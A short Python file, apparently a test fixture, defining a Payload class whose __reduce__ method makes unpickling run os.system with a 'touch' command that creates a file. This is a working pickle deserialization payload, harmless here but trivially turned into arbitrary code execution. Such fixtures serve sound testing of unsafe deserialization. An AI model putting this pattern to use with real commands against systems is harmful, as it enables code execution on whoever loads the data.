"""Code that must not run, wherever it lies in a file that is read."""

import os


class Payload:
    """Leaves a file behind when it is unpickled.

    Args:
        path: the file.
    """

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)
